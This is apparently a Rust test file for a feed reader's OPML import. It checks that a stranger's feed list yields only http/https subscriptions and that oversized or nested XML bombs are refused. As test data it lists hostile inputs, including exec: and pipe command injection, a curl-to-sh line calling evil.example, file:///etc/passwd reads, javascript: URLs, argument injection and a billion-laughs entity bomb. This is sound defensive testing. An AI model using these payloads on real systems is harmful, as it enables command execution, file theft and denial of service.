//! A list of feeds from a stranger brings addresses of the web, and nothing else; a bomb is refused at once.

use super::support::TempHome;
use std::{
    fs,
    process::Stdio,
    time::{Duration, Instant},
};

/// Addresses that other readers would run, open or ask (newsboat PR #3400 has the first ones).
const BAD: [&str; 24] = [
    "exec:touch owned",
    "exec:sh -c 'touch owned'",
    "filter:touch owned:https://good.example/feed",
    "query:all:unread = \"yes\"",
    "|touch owned",
    "| curl https://evil.example/ | sh",
    "`touch owned`",
    "$(touch owned)",
    "file:///etc/passwd",
    "file:owned",
    "/etc/passwd",
    "../owned",
    "javascript:alert(1)",
    "data:text/xml,&lt;rss/&gt;",
    "ftp://evil.example/feed",
    "gopher://evil.example/",
    "dict://127.0.0.1:11211/",
    "mailto:a@evil.example",
    "dateline:welcome",
    "dateline:saved",
    "https:",
    "-oProxyCommand=touch owned",
    "&#27;]0;owned&#7;",
    "",
];

/// Writings of one scheme that must not slip through.
const VARIANTS: [&str; 5] =
    ["EXEC:touch owned", " exec:touch owned", "&#101;xec:touch owned", "exec&#58;touch owned", "&#10;file:///etc/passwd"];

#[test]
fn a_strangers_list_brings_nothing_but_addresses_of_the_web() {
    let outlines: String = BAD
        .iter()
        .chain(&VARIANTS)
        .enumerate()
        .map(|(place, url)| {
            format!("<outline text='stranger {place:02}.' title='x' type='rss' xmlUrl=\"{}\"/>", url.replace('"', "&quot;"))
        })
        .collect();
    let file = format!(
        "<opml version='2.0'><body><outline text='|touch owned'>{outlines}\
         <outline text='good one' xmlUrl='https://good.example/feed' filtercmd='touch owned' htmlUrl='javascript:1'/></outline></body></opml>"
    );
    let home = TempHome::with_feeds(["dateline:welcome"]);
    let run = home.run_with_input(["import", "-"], file.as_bytes());
    assert_eq!(run.status, Some(1), "{}", run.stderr);
    let config = home.read_config();
    let accepted: Vec<&str> = config.lines().filter(|line| line.starts_with("url = ")).collect();
    assert_eq!(accepted, ["url = \"dateline:welcome\"", "url = \"https://good.example/feed\""], "nothing else is subscribed to");
    let reasons = ["only http and https", "an outline without an address"];
    let told = |place: usize| {
        let mut lines = run.stderr.lines().filter(|line| line.contains(&format!("stranger {place:02}.")));
        lines.any(|line| reasons.iter().any(|reason| line.contains(reason)))
    };
    let listed = (0..BAD.len() + VARIANTS.len()).filter(|place| told(*place)).count();
    assert_eq!(listed, BAD.len() + VARIANTS.len(), "each is named with its reason:\n{}", run.stderr);
    assert!(run.stderr.contains("“good one”: touch owned: no command of a list is taken"), "{}", run.stderr);
    assert!(!home.file("owned").exists() && !home.file("user/owned").exists());
    println!("{listed} bad addresses and 1 command listed by name and reason; accepted 0, files made 0");
}

/// How a run of `import` ended, what it said, how long it took, and the most memory that it had, in MiB.
fn import(home: &TempHome, file: &[u8]) -> (Option<i32>, String, Duration, u64) {
    fs::write(home.file("list.opml"), file).expect("written");
    let begun = Instant::now();
    let mut child = home.command().args(["import", "list.opml"]).stdout(Stdio::null()).stderr(Stdio::piped()).spawn().expect("starts");
    let status = format!("/proc/{}/status", child.id());
    let (mut most, mut ended) = (0, None);
    while ended.is_none() {
        let peak = fs::read_to_string(&status).unwrap_or_default();
        let peak = peak.lines().find_map(|line| line.strip_prefix("VmHWM:")?.trim().strip_suffix(" kB")?.trim().parse::<u64>().ok());
        most = most.max(peak.unwrap_or(0));
        assert!(begun.elapsed() < Duration::from_secs(60), "it hangs");
        std::thread::sleep(Duration::from_millis(1));
        ended = child.try_wait().expect("our own child");
    }
    let took = begun.elapsed();
    let said = child.wait_with_output().expect("it ended").stderr;
    (ended.and_then(|status| status.code()), String::from_utf8_lossy(&said).into_owned(), took, most >> 10)
}

#[test]
fn bombs_are_refused_with_a_sentence() {
    let feeds = |count: usize| (0..count).map(|i| format!("<outline xmlUrl='http://{i}.ex'/>")).collect::<String>();
    let levels: String = (1..10).map(|i| format!("<!ENTITY l{i} '{}'>", format!("&l{};", i - 1).repeat(10))).collect();
    let bombs: [(&str, Vec<u8>, &str); 7] = [
        ("100,000 feeds in 3.6 MB", format!("<opml><body>{}", feeds(100_000)).into_bytes(), "more than 5,000 feeds"),
        (
            "100,000 outlines that are refused",
            format!("<opml>{}", "<outline xmlUrl='exec:x'/>".repeat(100_000)).into_bytes(),
            "more than 5,000 feeds",
        ),
        ("10,000 levels", format!("<opml>{}", "<outline text='x'>".repeat(10_000)).into_bytes(), "more than 16 levels"),
        ("50 MB", vec![b' '; 50 << 20], "more than 4 MiB"),
        ("50 MB in one attribute", [b"<opml><outline text='".to_vec(), vec![b'x'; 50 << 20], b"'/>".to_vec()].concat(), "more than 4 MiB"),
        (
            "a billion laughs",
            format!("<!DOCTYPE opml [<!ENTITY l0 'lol'>{levels}]><opml><outline text='&l9;' xmlUrl='&l9;'/></opml>").into_bytes(),
            "only http and https addresses are taken",
        ),
        (
            "100,000 attributes",
            format!("<opml><outline {} xmlUrl='|x'/></opml>", (0..100_000).map(|i| format!("a{i}='{i}' ")).collect::<String>())
                .into_bytes(),
            "only http and https addresses are taken",
        ),
    ];
    for (name, file, reason) in bombs {
        let home = TempHome::with_feeds(["dateline:welcome"]);
        let before = home.read_config();
        let (status, said, took, most) = import(&home, &file);
        assert!(status.is_some_and(|status| status != 0) && said.contains(reason), "{name}: {status:?} {said}");
        assert!(said.lines().count() < 10, "{name}: {said}");
        assert_eq!(home.read_config(), before, "{name}: nothing was added");
        assert!(most < 200, "{name}: {most} MiB");
        println!("{name}: refused after {:.2} s with {most} MiB at most", took.as_secs_f64());
    }
}
